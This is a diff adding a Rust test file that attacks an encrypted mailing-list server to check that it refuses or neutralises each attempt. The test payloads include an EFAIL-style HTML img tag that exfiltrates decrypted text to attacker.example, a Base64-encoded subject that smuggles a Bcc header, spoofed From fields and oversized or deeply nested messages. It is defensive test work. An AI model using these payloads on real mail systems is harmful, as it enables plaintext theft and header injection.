@@ -1,0 +1,211 @@
+//! What an attacker of an encrypted list would try, one test per case, built
+//! with real gpg. Each asserts that nothing reached the members and, where a
+//! notice is due, that it is the fixed one.
+
+mod common;
+use common::*;
+
+const CANARY: &str = "canary phrase 7f3a9c";
+
+fn nothing_distributed(s: &Scene) {
+    for member in [&s.alice, &s.bob, &s.carol] {
+        assert!(s.posts_to(member).is_empty(), "{} received something", member.address);
+    }
+}
+
+fn no_canary_anywhere(s: &Scene, outputs: &[&std::process::Output]) {
+    for mail in s.w.mails() {
+        assert!(!mail.text().contains(CANARY), "the canary left in a mail");
+    }
+    for out in outputs {
+        assert!(
+            !stderr(out).contains(CANARY) && !String::from_utf8_lossy(&out.stdout).contains(CANARY),
+            "the canary on stdout/stderr"
+        );
+    }
+    let mut stack = vec![s.w.home.clone()];
+    while let Some(dir) = stack.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let path = entry.unwrap().path();
+            let meta = std::fs::symlink_metadata(&path).unwrap();
+            if meta.is_dir() {
+                stack.push(path);
+            } else if meta.is_file() {
+                let bytes = std::fs::read(&path).unwrap_or_default();
+                assert!(
+                    !bytes.windows(CANARY.len()).any(|w| w == CANARY.as_bytes()),
+                    "the canary in {}",
+                    path.display()
+                );
+            }
+        }
+    }
+}
+
+/// What the admin (Alice) was told, decrypted.
+fn admin_reports(s: &Scene) -> Vec<String> {
+    s.w.mails_to("alice@example.org")
+        .iter()
+        .map(
+            |m| if m.text().contains("BEGIN PGP MESSAGE") { s.alice.decrypt(&m.armored()).plaintext } else { m.text() },
+        )
+        .filter(|text| text.contains("Entry "))
+        .collect()
+}
+
+fn encrypted_from(s: &Scene, sender: &Person, from: &str, entity: &str) -> Vec<u8> {
+    let armored = sender.sign_encrypt(entity.as_bytes(), &s.list_key);
+    client::encrypted(&client::headers(from, LIST, "attack"), &armored)
+}
+
+#[test]
+fn efail_style_mixes_of_encrypted_and_plain_parts_are_refused() {
+    let s = Scene::new();
+    let armored = s.alice.sign_encrypt(client::text_entity(CANARY).as_bytes(), &s.list_key);
+    for wrapper in ["mixed", "alternative", "related"] {
+        let mail = client::lf(&format!(
+            "{}Content-Type: multipart/{wrapper}; boundary=\"outer\"\r\n\r\n--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--enc--\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n",
+            client::headers("alice@example.org", LIST, wrapper)
+        ));
+        let out = s.deliver(&mail);
+        assert!(out.status.success());
+        nothing_distributed(&s);
+        no_canary_anywhere(&s, &[&out]);
+    }
+    let rfc822 = client::lf(&format!(
+        "{}Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n{armored}\r\n--enc--\r\n",
+        client::headers("alice@example.org", LIST, "forwarded")
+    ));
+    assert!(s.deliver(&rfc822).status.success());
+    nothing_distributed(&s);
+}
+
+#[test]
+fn several_signatures_are_refused() {
+    let s = Scene::new();
+    let entity = s.w.dir.path().join("entity");
+    std::fs::write(&entity, client::text_entity(CANARY)).unwrap();
+    // Alice signs, then Bob's signature is added over the same data: two signers.
+    let sig_alice = s.alice.gpg_ok(&[
+        "--armor",
+        "--output",
+        "-",
+        "--local-user",
+        &s.alice.fingerprint(),
+        "--detach-sign",
+        entity.to_str().unwrap(),
+    ]);
+    let sig_bob = s.bob.gpg_ok(&[
+        "--armor",
+        "--output",
+        "-",
+        "--local-user",
+        &s.bob.fingerprint(),
+        "--detach-sign",
+        entity.to_str().unwrap(),
+    ]);
+    let signed = format!(
+        "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"s\"\r\n\r\n--s\r\n{}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n{sig_alice}{sig_bob}\r\n--s--\r\n",
+        client::text_entity(CANARY)
+    );
+    let armored = s.alice.encrypt(signed.as_bytes(), &s.list_key);
+    let out = s.deliver(&client::encrypted(&client::headers("alice@example.org", LIST, "two"), &armored));
+    assert!(out.status.success());
+    nothing_distributed(&s);
+    no_canary_anywhere(&s, &[&out]);
+}
+
+#[test]
+fn from_tricks_are_refused_or_defused() {
+    let s = Scene::new();
+    let entity = client::text_entity(CANARY);
+    // Two From fields, and two mailboxes in one From.
+    for from_lines in
+        ["From: <alice@example.org>\r\nFrom: <bob@example.org>\r\n", "From: <alice@example.org>, <bob@example.org>\r\n"]
+    {
+        let armored = s.alice.sign_encrypt(entity.as_bytes(), &s.list_key);
+        let headers = client::headers("alice@example.org", LIST, "from").replacen(
+            "From: Sender <alice@example.org>\r\n",
+            from_lines,
+            1,
+        );
+        let out = s.deliver(&client::encrypted(&headers, &armored));
+        assert!(out.status.success());
+        nothing_distributed(&s);
+        no_canary_anywhere(&s, &[&out]);
+        assert!(admin_reports(&s).iter().any(|r| r.contains("exactly one valid address")), "{:?}", admin_reports(&s));
+        s.w.clear_outbox();
+    }
+    // An address-like display name never reaches the members.
+    let armored = s.alice.sign_encrypt(client::text_entity("display name test").as_bytes(), &s.list_key);
+    let headers =
+        client::headers("alice@example.org", LIST, "name").replacen("From: Sender <", "From: \"bob@example.org\" <", 1);
+    assert!(s.deliver(&client::encrypted(&headers, &armored)).status.success());
+    let copy = &s.posts_to(&s.carol)[0];
+    assert!(!copy.header("From").unwrap().contains("bob@example.org"), "{:?}", copy.header("From"));
+    let opened = s.carol.open_post(copy).unwrap();
+    assert!(!opened.entity.lines().any(|l| l.starts_with("From:") && l.contains("bob@example.org")));
+}
+
+#[test]
+fn encoded_line_breaks_in_subjects_never_make_headers() {
+    let s = Scene::new();
+    // "hi\r\nBcc: victim@example.net" encoded as RFC 2047.
+    let subject = "=?utf-8?b?aGkNCkJjYzogdmljdGltQGV4YW1wbGUubmV0?=";
+    let entity = format!("Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\r\nFrom: <alice@example.org>\r\nTo: {LIST}\r\nSubject: {subject}\r\n\r\nbody\r\n");
+    let out = s.deliver(&encrypted_from(&s, &s.alice, "alice@example.org", &entity));
+    assert!(out.status.success());
+    let copy = &s.posts_to(&s.bob)[0];
+    let opened = s.bob.open_post(copy).unwrap();
+    for text in [copy.text(), opened.entity.clone()] {
+        assert!(
+            !text.lines().any(|l| l.to_ascii_lowercase().starts_with("bcc:")),
+            "a Bcc header was injected:\n{text}"
+        );
+    }
+    assert!(s.w.mails_to("victim@example.net").is_empty());
+}
+
+#[test]
+fn loops_by_list_id_and_auto_replies_are_dropped_silently() {
+    let s = Scene::new();
+    for extra in
+        ["List-Id: Crypto list <crypto.example.org>\r\n", "Auto-Submitted: auto-replied\r\n", "Precedence: bulk\r\n"]
+    {
+        let armored = s.alice.sign_encrypt(client::text_entity(CANARY).as_bytes(), &s.list_key);
+        let headers = format!("{extra}{}", client::headers("alice@example.org", LIST, "auto"));
+        let out = s.deliver(&client::encrypted(&headers, &armored));
+        assert!(out.status.success());
+        nothing_distributed(&s);
+        assert!(s.w.mails().is_empty(), "no notice for {extra}");
+    }
+}
+
+#[test]
+fn huge_headers_and_deep_nesting_are_handled_without_harm() {
+    let s = Scene::new();
+    // 100,000 header fields.
+    let many: String = (0..100_000).map(|i| format!("X-Filler-{i}: x\r\n")).collect();
+    let armored = s.alice.sign_encrypt(client::text_entity(CANARY).as_bytes(), &s.list_key);
+    let headers = format!("{many}{}", client::headers("alice@example.org", LIST, "many"));
+    let started = std::time::Instant::now();
+    let out = s.deliver(&client::encrypted(&headers, &armored));
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(started.elapsed() < std::time::Duration::from_secs(60));
+    // The post itself is fine: it goes out, without the filler headers.
+    let copy = &s.posts_to(&s.bob)[0];
+    assert!(!copy.text().contains("X-Filler"));
+    s.w.clear_outbox();
+    // 10,000 nested multiparts inside a properly signed and encrypted post.
+    let mut nested = String::from("Content-Type: text/plain\r\n\r\ninnermost\r\n");
+    for depth in 0..10_000 {
+        nested = format!(
+            "Content-Type: multipart/mixed; boundary=\"b{depth}\"\r\n\r\n--b{depth}\r\n{nested}\r\n--b{depth}--\r\n"
+        );
+    }
+    let out = s.deliver(&encrypted_from(&s, &s.alice, "alice@example.org", &nested));
+    assert!(out.status.code().is_some(), "no crash: {}", stderr(&out));
+    assert!(out.status.success(), "{}", stderr(&out));
+    nothing_distributed(&s);
+    assert!(admin_reports(&s).iter().any(|r| r.contains("deeper nesting")), "{:?}", admin_reports(&s));
+}
